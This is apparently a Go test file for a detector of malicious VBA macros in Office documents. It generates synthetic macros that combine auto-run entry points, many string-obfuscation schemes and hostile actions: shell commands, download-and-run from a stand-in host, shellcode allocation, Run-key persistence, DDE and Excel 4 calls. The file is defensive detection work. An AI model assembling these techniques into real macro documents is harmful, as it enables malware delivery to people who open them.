package vba

import (
	"context"
	"encoding/base64"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
)

// judged judges one project; none of these tests expects an error.
func judged(t testing.TB, p *Project) *Report {
	t.Helper()
	r, err := Judge(context.Background(), p, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// one is a project of one standard module.
func one(source string) *Project {
	return &Project{Kind: "docm", Modules: []Module{{Name: "Module1", Stream: "VBA/Module1", Source: source}}}
}

// hiding writes a text as an expression that yields it.
type hiding struct {
	name   string
	expr   func(s string) string // in code
	before string                // procedures and declarations it needs
	lost   bool                  // what it yields cannot be told
	forms  bool                  // it is read from a UserForm
}

func quoted(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }

// pieces cuts s into parts of n bytes and writes each.
func pieces(s string, n int, sep string, write func(string) string) string {
	var out []string
	for part := range slices.Chunk([]byte(s), n) {
		out = append(out, write(string(part)))
	}
	return strings.Join(out, sep)
}

func codes(s, sep string, f func(c int) int) string {
	var out []string
	for _, c := range []byte(s) {
		out = append(out, fmt.Sprint(f(int(c))))
	}
	return strings.Join(out, sep)
}

func reversed(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

func hexOf(s string) string { return fmt.Sprintf("%x", s) }

func same1(c int) int { return c }

var hidings = []hiding{
	{name: "as it stands", expr: quoted},
	{name: "pieces", expr: func(s string) string { return pieces(s, 2, " & ", quoted) }},
	{name: "pieces with plus", expr: func(s string) string { return pieces(s, 3, " + ", quoted) }},
	{name: "pieces over continued lines", expr: func(s string) string { return pieces(s, 12, " & _\n    ", quoted) }},
	{name: "Chr", expr: func(s string) string {
		return pieces(s, 1, " & ", func(c string) string { return fmt.Sprintf("Chr(%d)", c[0]) })
	}},
	{name: "ChrW of hexadecimal", expr: func(s string) string {
		return pieces(s, 1, " & ", func(c string) string { return fmt.Sprintf("ChrW$(&H%X)", c[0]) })
	}},
	{name: "Chr without blanks", expr: func(s string) string {
		return pieces(s, 1, "&", func(c string) string { return fmt.Sprintf("Chr(%d)", c[0]) })
	}},
	{name: "Chr of sums", expr: func(s string) string {
		return pieces(s, 1, " & ", func(c string) string { return fmt.Sprintf("VBA.Chr(%d - (7 * 3) Xor 0)", int(c[0])+21) })
	}},
	{name: "Chr of Asc", expr: func(s string) string {
		return pieces(s, 1, " & ", func(c string) string { return fmt.Sprintf("Chr(Asc(%s) + 1)", quoted(string(c[0]-1))) })
	}},
	{name: "StrReverse", expr: func(s string) string { return "StrReverse(" + quoted(reversed(s)) + ")" }},
	{name: "Replace", expr: func(s string) string {
		return "Replace(" + quoted(pieces(s, 2, "qzx", func(s string) string { return s })) + `, "qzx", "")`
	}},
	{name: "Replace of Replace", expr: func(s string) string {
		return "Replace(Replace(" + quoted(pieces(s, 1, "%!", func(s string) string { return s })) + `, "%", ""), "!", vbNullString)`
	}},
	{name: "Join of Split", expr: func(s string) string {
		return "Join(Split(" + quoted(pieces(s, 2, "~~", func(s string) string { return s })) + `, "~~"), "")`
	}},
	{name: "Join of Array", expr: func(s string) string { return "Join(Array(" + pieces(s, 3, ", ", quoted) + `), "")` }},
	{name: "Mid", expr: func(s string) string {
		return pieces(s, 2, " & ", func(p string) string { return fmt.Sprintf("Mid(%s, 4, %d)", quoted("abc"+p+"xyz"), len(p)) })
	}},
	{name: "Left and Right", expr: func(s string) string {
		return pieces(s, 4, " & ", func(p string) string {
			return fmt.Sprintf("Left(Right(%s, %d), %d)", quoted("ab"+p+"cd"), len(p)+2, len(p))
		})
	}},
	{name: "case and blanks", expr: func(s string) string {
		return pieces(s, 3, " & ", func(p string) string { return "Trim(" + quoted(p) + ")" })
	}},
	{name: "names nobody assigned", expr: func(s string) string { return pieces(s, 2, " & kjdfTrw & ", quoted) }},
	{name: "constants", expr: func(s string) string { return "cHid & " + quoted(s) }, before: "Private Const cHid As String = \"\"\n"},
	{name: "hexadecimal", expr: func(s string) string { return "fHex(" + quoted(hexOf(s)) + ")" }, before: `
Private Function fHex(ByVal s As String) As String
  Dim i As Integer
  For i = 1 To Len(s) Step 2
    fHex = fHex & Chr("&H" & Mid(s, i, 2))
  Next i
End Function
`},
	{name: "hexadecimal by While", expr: func(s string) string { return "fHexW(" + quoted(hexOf(s)) + ")" }, before: `
Function fHexW(s)
  i = 1
  Do While i < Len(s)
    x = x + Chr(Val("&h" + Mid$(s, i, 2)))
    i = i + 2
  Loop
  fHexW = x
End Function
`},
	{name: "numbers with Xor", expr: func(s string) string {
		return "fXor(Array(" + codes(s, ", ", func(c int) int { return c ^ 29 }) + "), 29)"
	}, before: `
Function fXor(a As Variant, k As Integer) As String
  Dim i As Long, o As String
  For i = LBound(a) To UBound(a)
    o = o & Chr$(a(i) Xor k)
  Next
  fXor = o
End Function
`},
	{name: "numbers in text", expr: func(s string) string { return "fNum(" + quoted(codes(s, ",", func(c int) int { return c + 5 })) + ")" }, before: `
Function fNum(t As String) As String
  Dim p As Variant
  For Each p In Split(t, ",")
    fNum = fNum & Chr(CInt(p) - 5)
  Next p
End Function
`},
	{name: "bytes", expr: func(s string) string { return "fByte(" + quoted(codes(s, " ", same1)) + ")" }, before: `
Function fByte(t)
  Dim b() As Byte, v, i
  v = Split(t, " ")
  ReDim b(0 To UBound(v))
  For i = 0 To UBound(v)
    b(i) = CByte(v(i))
  Next
  fByte = StrConv(b, vbUnicode)
End Function
`},
	{name: "backwards by hand", expr: func(s string) string { return "fBack(" + quoted(reversed(s)) + ")" }, before: `
Function fBack(s As String) As String
  Dim i As Integer
  For i = Len(s) To 1 Step -1: fBack = fBack & Mid(s, i, 1): Next
End Function
`},
	{name: "every second character", expr: func(s string) string {
		return "fEven(" + quoted(pieces(s, 1, "", func(c string) string { return c + "#" })) + ")"
	}, before: `
Function fEven(s)
  For i = 1 To Len(s)
    If i Mod 2 = 1 Then
      r = r & Mid(s, i, 1)
    End If
  Next
  fEven = r
End Function
`},
	{name: "base64 by MSXML", expr: func(s string) string {
		return "f64(" + quoted(base64.StdEncoding.EncodeToString([]byte(s))) + ")"
	}, before: `
Function f64(s As String) As String
  Dim d As Object, n As Object
  Set d = CreateObject("MSXML2.DOMDocument")
  Set n = d.createElement("b")
  n.DataType = "bin.base64"
  n.Text = s
  f64 = StrConv(n.nodeTypedValue, vbUnicode)
End Function
`},
	{name: "base64 by hand", expr: func(s string) string {
		return "fAlpha(" + quoted(base64.StdEncoding.EncodeToString([]byte(s))) + ")"
	}, before: `
Function fAlpha(ByVal s As String) As String
  Dim a As String, i As Long, j As Integer, n As Long, w As Long, c As String
  a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
  For i = 1 To Len(s) Step 4
    n = 0: w = 0
    For j = 0 To 3
      c = Mid(s, i + j, 1)
      n = n * 64
      If c = "=" Then
        w = w + 1
      Else
        n = n + InStr(1, a, c, 0) - 1
      End If
    Next j
    c = Chr((n \ 65536) And 255) & Chr((n \ 256) And 255) & Chr(n And 255)
    fAlpha = fAlpha & Left(c, 3 - w)
  Next i
End Function
`},
	{name: "text that grows", expr: func(s string) string {
		return "fGrow(" + quoted(s[:1]) + ", " + quoted(s[1:]) + `, "")`
	}, before: `
Function fGrow(a, b, c) As String
  Dim t As String
  t = a
  t = t & b
  If True Then t = t + c Else t = ""
  fGrow = t
End Function
`},
	{name: "variable of the project", expr: func(s string) string { return "fSet(" + quoted(s) + ") & gText" }, before: `
Public gText As String
Function fSet(s)
  gText = Mid("x" & s, 2)
  fSet = ""
End Function
`},
	{name: "text of a form", expr: func(s string) string { return "UserForm1.Label1.Caption" }, forms: true},
	{name: "tag of a form", expr: func(s string) string { return "StrReverse(UserForm1.Label1.Tag)" }, forms: true},
	{name: "cell", expr: func(s string) string { return `Sheets(1).Range("A1").Value` }, lost: true},
	{name: "variable of the document", expr: func(s string) string { return `ActiveDocument.Variables("x").Value` }, lost: true},
	{name: "property", expr: func(s string) string { return `"" & ThisDocument.BuiltInDocumentProperties("Comments")` }, lost: true},
}

// act is code that does something; § stands for each text, in order.
type act struct {
	name   string
	code   string
	texts  []string
	before string
	part   int  // the text that must be told where it folds; -1 for none
	needs  bool // it is recognised by a text: where that cannot be told it is not
}

const (
	aCommand = "cmd.exe /c calc.exe"
	aURL     = "http://example.test/a.exe"
	aProgram = `C:\Users\Public\a.exe`
)

var acts = []act{
	{"Shell", "Shell §, vbHide", []string{aCommand}, "", 0, false},
	{"Shell function", "x = VBA.Shell(§, 0)", []string{aCommand}, "", 0, false},
	{"Shell in a condition", "If Shell(§) = 0 Then Exit Sub", []string{aCommand}, "", 0, false},
	{"Call Shell", "Call Shell(§, 0)", []string{aCommand}, "", 0, false},
	{"WScript.Shell", "CreateObject(§).Run §, 0, False", []string{"WScript.Shell", aCommand}, "", 1, false},
	{"WScript.Shell in a variable", "Dim w As Object\nSet w = CreateObject(§)\nw.Run §", []string{"WScript.Shell", aCommand}, "", 1, false},
	{"WScript.Shell with With", "With CreateObject(§)\n.Run §, 0\nEnd With", []string{"WScript.Shell", aCommand}, "", 1, false},
	{"WshShell", "Dim w As New WshShell\nw.Exec §", []string{aCommand}, "", 0, false},
	{"Shell.Application", "CreateObject(§).ShellExecute §", []string{"Shell.Application", aCommand}, "", 1, false},
	{"WMI", "GetObject(§).Create §, Null, Null, p", []string{`winmgmts:\\.\root\cimv2:Win32_Process`, aCommand}, "", 1, false},
	{"WMI class", "Set w = GetObject(\"winmgmts:\")\nw.Get(§).Create §", []string{"Win32_Process", aCommand}, "", 1, false},
	{"task", "Set s = CreateObject(§)\ns.Connect", []string{"Schedule.Service"}, "", 0, false},
	{"script", "CreateObject(§).Language = §", []string{"MSScriptControl.ScriptControl", "VBScript"}, "", 0, false},
	{"class by number", "GetObject(§).Document.Application.ShellExecute \"a\"", []string{"new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}"}, "", 0, false},
	{"XMLHTTP", "Set h = CreateObject(§)\nh.Open \"GET\", §, False\nh.Send", []string{"MSXML2.XMLHTTP", aURL}, "", 1, false},
	{"WinHttp", "Set h = CreateObject(§)\nh.Open \"GET\", §", []string{"WinHttp.WinHttpRequest.5.1", aURL}, "", 1, false},
	{"XMLHTTP60", "Dim h\nSet h = New MSXML2.XMLHTTP60\nh.Open \"GET\", §", []string{aURL}, "", 0, false},
	{"Internet Explorer", "Set i = CreateObject(§)\ni.Navigate §", []string{"InternetExplorer.Application", aURL}, "", 1, false},
	{"ADODB.Stream", "With CreateObject(§)\n.SaveToFile §, 2\nEnd With", []string{"ADODB.Stream", aProgram}, "", 1, false},
	{"URLDownloadToFile", "Fetch 0, §, §, 0, 0", []string{aURL, aProgram},
		"Private Declare PtrSafe Function Fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal p As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long\n", 0, false},
	{"ShellExecute", "Start 0, \"open\", §, \"\", \"\", 0", []string{aProgram},
		"#If VBA7 Then\nPrivate Declare PtrSafe Function Start Lib \"shell32.dll\" Alias \"ShellExecuteA\" (ByVal h As LongPtr) As LongPtr\n#Else\nPrivate Declare Function Start Lib \"shell32.dll\" Alias \"ShellExecuteA\" (ByVal h As Long) As Long\n#End If\n", 0, false},
	{"machine code", "p = Reserve(0, 4096, &H3000, &H40)\nBegin 0, 0, p, 0, 0, t", nil,
		"Private Declare PtrSafe Function Reserve Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As LongPtr) As LongPtr\nPrivate Declare PtrSafe Function Begin Lib \"kernel32\" Alias \"CreateThread\" (ByVal a As Long) As Long\n", -1, false},
	{"machine code by a callback", "Lang p, 0", nil, "Declare Function Lang Lib \"kernel32\" Alias \"EnumSystemLanguageGroupsA\" (ByVal a As Long, ByVal b As Long) As Long\n", -1, false},
	{"unknown library", "go §", []string{"x"}, "Declare Sub go Lib \"C:\\Users\\Public\\x.dll\" (ByVal s As String)\n", -1, false},
	{"script written", "Open § For Output As #1\nPrint #1, §\nClose #1", []string{`C:\Users\Public\a.vbs`, aCommand}, "", 1, false},
	{"program written", "Open § For Binary As #1\nPut #1, , b\nClose #1", []string{aProgram}, "", 0, false},
	{"CreateTextFile", "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(§, True)\nf.Write §", []string{`C:\Users\Public\a.js`, aCommand}, "", 1, false},
	{"OpenTextFile", "Set f = fso.OpenTextFile(§, 2, True)\nf.WriteLine §", []string{`C:\Users\Public\a.bat`, aCommand}, "", 1, false},
	{"FileCopy", "FileCopy §, §", []string{`C:\Windows\System32\certutil.exe`, aProgram}, "", 1, false},
	{"SaveAs to the start folder", "ActiveWorkbook.SaveAs Application.StartupPath & §", []string{`\book1.xls`}, "", -1, false},
	{"Excel 4", "ExecuteExcel4Macro §", []string{`EXEC("calc.exe")`}, "", 0, false},
	{"Excel 4 member", "r = Application.ExecuteExcel4Macro(§)", []string{`CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"` + aURL + `")`}, "", -1, false},
	{"CallByName", "CallByName CreateObject(§), §, VbMethod, §", []string{"WScript.Shell", "Run", aCommand}, "", 2, false},
	{"SendKeys", "SendKeys §", []string{"powershell~"}, "", -1, false},
	{"RegWrite", "CreateObject(§).RegWrite §, 1", []string{"WScript.Shell", `HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x`}, "", -1, false},
	{"FollowHyperlink", "ActiveDocument.FollowHyperlink §", []string{aURL}, "", -1, false},
	{"DDE", "c = DDEInitiate(§, §)", []string{"cmd", "/c calc"}, "", -1, false},
	{"macros written", "ActiveDocument.VBProject.VBComponents(1).CodeModule.AddFromString §", []string{"Sub a()"}, "", -1, false},
	{"template fetched", "ActiveDocument.AttachedTemplate = §", []string{"http://example.test/t.dotm"}, "", -1, true},
	{"AppleScript", "MacScript §", []string{"do shell script"}, "", -1, false},
}

// write puts an act with its texts hidden into a body.
func (a act) write(h hiding) string {
	code := a.code
	for _, s := range a.texts {
		code = strings.Replace(code, "§", h.expr(s), 1)
	}
	return code
}

// starts writes the procedure of each entry point, with what else the project needs.
func starts() map[string]func(body string) *Project {
	all := make(map[string]func(string) *Project)
	for _, w := range entries {
		all[w.keyword] = func(body string) *Project { return one("Private Sub " + w.keyword + "()\n" + body + "\nEnd Sub\n") }
	}
	for _, w := range controlEvents {
		all["Thing1"+w.keyword] = func(body string) *Project {
			return one("Private Sub Thing1" + w.keyword + "(ByVal x)\n" + body + "\nEnd Sub\n")
		}
	}
	for name := range autoModules {
		all[name+".Main"] = func(body string) *Project {
			p := one("Public Sub MAIN()\n" + body + "\nEnd Sub\n")
			p.Modules[0].Name = name
			return p
		}
	}
	all["TextBox1_Change"] = func(body string) *Project {
		return one("Attribute VB_Base = \"1Normal.ThisDocument\"\nPrivate Sub TextBox1_Change()\n" + body + "\nEnd Sub\n")
	}
	all["customUI"] = func(body string) *Project {
		p := one("Sub rib_Load(r As IRibbonUI)\n" + body + "\nEnd Sub\n")
		p.OnLoad = []string{"Module1.rib_Load"}
		return p
	}
	ways := map[string]string{
		"call":      "Sub AutoOpen()\nOther\nEnd Sub\nSub Other()\n%s\nEnd Sub\n",
		"Run":       "Sub Auto_Open()\nApplication.Run \"Oth\" & \"er\"\nEnd Sub\nSub Other()\n%s\nEnd Sub\n",
		"OnTime":    "Sub Document_Open()\nApplication.OnTime Now + TimeValue(\"00:00:05\"), \"Module1.Other\"\nEnd Sub\nPublic Sub Other()\n%s\nEnd Sub\n",
		"any Run":   "Sub Workbook_Open()\nApplication.Run Range(\"A1\").Value\nEnd Sub\nSub Other()\n%s\nEnd Sub\n",
		"function":  "Sub AutoClose()\nIf Other(1) Then Exit Sub\nEnd Sub\nFunction Other(x) As Boolean\n%s\nEnd Function\n",
		"event":     "Sub Auto_Open()\nApplication.OnSheetActivate = \"Other\"\nEnd Sub\nSub Other()\n%s\nEnd Sub\n",
		"property":  "Sub AutoClose()\nx = Other\nEnd Sub\nProperty Get Other()\n%s\nEnd Property\n",
		"AddressOf": "Sub AutoNew()\nSetTimer 0, 0, 500, AddressOf Other\nEnd Sub\nSub Other()\n%s\nEnd Sub\n",
		"condition": "Sub AutoOpen()\nIf Day(Now) = 3 Then\nExit Sub\nElse\nSelect Case x\nCase 1\n%s\nEnd Select\nEnd If\nEnd Sub\n",
	}
	for name, source := range ways {
		all["by "+name] = func(body string) *Project { return one(strings.Replace(source, "%s", body, 1)) }
	}
	all["by a form"] = func(body string) *Project {
		p := one("Sub AutoOpen()\nLoad UserForm2\nEnd Sub\n")
		p.Modules = append(p.Modules, Module{Name: "UserForm2", Stream: "VBA/UserForm2", Source: "Private Sub UserForm_Initialize()\n" + body + "\nEnd Sub\n"})
		return p
	}
	all["by a form in text"] = func(body string) *Project {
		p := one("Sub AutoOpen()\nVBA.UserForms.Add(\"UserForm2\").Show\nEnd Sub\n")
		p.Modules = append(p.Modules, Module{Name: "UserForm2", Stream: "VBA/UserForm2",
			Source: "Attribute VB_Base = \"0{11111111-0000-0000-0000-000000000000}{22222222-0000-0000-0000-000000000000}\"\nPrivate Sub Label1_MouseMove(ByVal x)\n" + body + "\nEnd Sub\n"})
		return p
	}
	all["by a class"] = func(body string) *Project {
		p := one("Dim c As New Class1\nSub AutoOpen()\nSet c.App = Application\nEnd Sub\n")
		p.Modules = append(p.Modules, Module{Name: "Class1", Stream: "VBA/Class1",
			Source: "Public WithEvents App As Word.Application\nPrivate Sub App_DocumentOpen(ByVal d As Document)\n" + body + "\nEnd Sub\n"})
		return p
	}
	return all
}

// hide puts the helpers of a hiding and the declarations of an act around a project.
func hide(p *Project, a act, h hiding) *Project {
	p.Modules[0].Source = a.before + p.Modules[0].Source
	p.Modules = append(p.Modules, Module{Name: "Helper", Stream: "VBA/Helper", Source: h.before})
	if a.before != "" && len(p.Modules) > 2 { // declared where it is called
		p.Modules[1].Source = strings.ReplaceAll(a.before, "Private Declare", "Private Declare") + p.Modules[1].Source
	}
	if h.forms {
		s := a.texts[len(a.texts)-1]
		p.Forms = []Control{{"UserForm1", nil}, {"UserForm1.Label1", map[string]string{"caption": s, "tag": reversed(s)}}}
	}
	return p
}

// expressible says whether the hiding can yield the act's texts: a form's text is one for all.
func expressible(a act, h hiding) bool {
	return (!h.forms || len(a.texts) == 1) && !(h.lost && a.needs)
}

// TestEveryEntryPointWithEveryAbilityHiddenInEveryWayIsSuspicious goes through the whole product with -tags long only; otherwise through every pair.
func TestEveryEntryPointWithEveryAbilityHiddenInEveryWayIsSuspicious(t *testing.T) {
	n, missed, k := 0, 0, 0
	all := starts()
	for _, entry := range slices.Sorted(maps.Keys(all)) { // in order, so that a failure comes again
		start := all[entry]
		k++
		for i, a := range acts {
			for m, h := range hidings {
				pair := entry == "AutoOpen" || (i+k)%len(hidings) == m
				if !expressible(a, h) || !wholeProduct && !pair {
					continue
				}
				n++
				p := hide(start(a.write(h)), a, h)
				if r := judged(t, p); !r.Suspicious || len(r.Autoexec) == 0 || len(r.Chain) < 2 {
					if missed++; missed < 20 {
						t.Errorf("%s, %s, %s: %+v", entry, a.name, h.name, r)
					}
				}
			}
		}
	}
	if min := 4000; n < min {
		t.Errorf("%d combinations, not %d", n, min)
	}
	t.Logf("%d of %d missed", missed, n)
}

func TestFoldedTextIsTold(t *testing.T) {
	for _, a := range acts {
		for _, h := range hidings {
			if a.part < 0 || h.lost || !expressible(a, h) {
				continue
			}
			p := hide(one("Sub AutoOpen()\n"+a.write(h)+"\nEnd Sub\n"), a, h)
			r := judged(t, p)
			want := a.texts[a.part]
			found := strings.Contains(r.Text, want)
			for _, e := range r.Evidence {
				found = found || strings.Contains(e.Text, want)
			}
			if !found && !strings.Contains(fmt.Sprint(r.Abilities), want) {
				t.Errorf("%s, %s: %q is not in %q, %v", a.name, h.name, want, r.Text, r.Evidence)
			}
		}
	}
}
